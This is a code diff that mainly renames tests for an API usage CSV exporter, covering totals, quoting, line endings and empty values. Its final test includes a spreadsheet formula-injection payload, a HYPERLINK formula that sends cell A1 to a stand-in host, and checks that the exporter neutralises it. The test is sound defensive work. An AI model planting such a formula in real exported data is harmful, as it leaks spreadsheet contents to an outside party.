@@ -1,4 +1,4 @@
-"""`--format=csv`: the API's numbers, digit for digit, and totals that equal its own."""
+"""`--format=csv`: the API's numbers digit by digit, and totals that equal the API's."""
 
 from __future__ import annotations
 
@@ -41,7 +41,7 @@ async def exported(export: Export, **options: Any) -> bytes:
 
 
 def of_api(export: Export) -> bytes:
-    """Return what `GET /activity` returns."""
+    """Return the body of `GET /activity`."""
     request = urllib.request.Request(  # noqa: S310 — the simulator
         f"{export.simulator.url}/activity", headers={"Authorization": f"Bearer {KEY}"}
     )
@@ -87,7 +87,7 @@ def test_spend_is_usage_and_own_key_usage(rows: list[dict[str, Any]]) -> None:
     ),
     st.sampled_from(["api_key", "member"]),
 )
-def test_totals_of_a_split_are_those_of_the_whole(uses: list[dict[str, Any]], split_by: str) -> None:
+def test_split_has_the_totals_of_the_whole_account(uses: list[dict[str, Any]], split_by: str) -> None:
     rows = csv_rows(finance.export(SplitApi(uses, ["k1", "k2"]), options=OPTIONS, split_by=split_by))
     assert totals_of(joined(uses)) == totals_of_file(rows)
 
@@ -130,7 +130,7 @@ def test_row_has_all_columns() -> None:
     ] == csv_of([row(byok_usage_inference=0.5)])
 
 
-def test_key_is_in_a_column_of_its_own() -> None:
+def test_key_has_its_own_column() -> None:
     api = SplitApi([use("k1", days_ago(1)), use("gone", days_ago(1), usage=0.25)], ["k1"])
     rows = csv_rows(finance.export(api, options=OPTIONS, split_by="api_key"))
     assert {label_of("k1"): "1", "unattributed": "0.25"} == {row["key"]: row["usage_usd"] for row in rows}
@@ -157,7 +157,7 @@ def test_rows_of_one_endpoint_and_day_are_added_as_decimals() -> None:
     assert ["0.3"] == [row["usage_usd"] for row in csv_of([row(usage=0.1), row(usage=0.2)])]
 
 
-def test_number_that_the_api_does_not_report_is_empty() -> None:
+def test_value_that_the_api_does_not_report_is_empty() -> None:
     assert [""] == [row["cached_tokens"] for row in csv_of([row(cached_tokens=...)])]
 
 
@@ -166,13 +166,13 @@ def test_spend_of_an_account_without_own_keys_is_its_usage() -> None:
 
 
 @pytest.mark.parametrize("usage", [..., None, "much"])
-def test_endpoint_whose_cost_is_unknown_fails_even_if_that_of_all_is(usage: object) -> None:
-    """An empty cell adds up like 0, and own provider keys alone are not the spend."""
+def test_endpoint_with_an_unknown_cost_fails_the_export(usage: object) -> None:
+    """An empty cell would add up like 0, and BYOK usage alone is not the spend."""
     with pytest.raises(ExportError, match="the API does not report what acme/one cost"):
         csv_of([row(usage=usage)])
 
 
-def test_dropped_labels_are_columns_all_the_same() -> None:
+def test_dropped_labels_are_still_columns() -> None:
     rows = csv_of([row(endpoint="e1"), row(endpoint="e2")], drop_labels=("endpoint_id",))
     assert ["e1", "e2"] == [row["endpoint_id"] for row in rows]
 
@@ -194,13 +194,13 @@ def test_names_with_commas_quotes_and_line_breaks_are_quoted() -> None:
     assert [name] == [row["provider"] for row in csv_of([row(provider_name=name)])]
 
 
-def test_file_begins_with_the_columns_and_ends_lines_as_rfc_4180_says() -> None:
+def test_file_begins_with_the_columns_and_has_the_line_ends_of_rfc_4180() -> None:
     content = finance.export(SplitApi([], [], wholes=[[row()]]), options=OPTIONS)
     assert content.startswith(HEADER)
     assert 2 == content.count(b"\r\n") == content.count(b"\n")
 
 
-def test_account_without_usage_leaves_the_columns_alone() -> None:
+def test_file_of_an_account_without_usage_has_only_the_columns() -> None:
     assert HEADER == finance.export(SplitApi([], [], wholes=[[]]), options=OPTIONS)
 
 
@@ -209,7 +209,7 @@ def test_order_of_the_rows_of_the_api_does_not_matter() -> None:
     assert csv_of(rows) == csv_of(rows[::-1])
 
 
-async def test_same_call_writes_the_same_bytes(export: Export) -> None:
+async def test_same_command_writes_the_same_bytes(export: Export) -> None:
     first = await exported(export)
     export.clock.advance(3600)
     assert first == await exported(export)
@@ -278,13 +278,13 @@ async def test_labels_of_the_configuration_follow_the_columns(export: Export, sp
     assert {"unallocated"} == {row["cost_center"] for row in rows}
 
 
-async def test_labels_of_the_configuration_are_columns_without_any_account(export: Export) -> None:
+async def test_configured_labels_are_columns_without_any_account(export: Export) -> None:
     export.accounts, export.allocations = [], Allocations(labels=("team", "cost_center"))
     assert HEADER.rstrip() + b",team,cost_center\r\n" == await exported(export)
 
 
 @pytest.mark.parametrize("begin", ["=", "+", "-", "@", "\t", "\r", "\n"])
-def test_name_that_a_spreadsheet_takes_for_a_formula_begins_with_a_quote(begin: str) -> None:
+def test_name_that_looks_like_a_formula_is_prefixed_with_a_quote(begin: str) -> None:
     name = f'{begin}HYPERLINK("http://x.example/?"&A1)'
     (written,) = csv_of([row(model=name, provider_name=name, usage=-2.5, byok_usage_inference=0)])
     assert (f"'{name}", f"'{name}") == (written["model"], written["provider"])
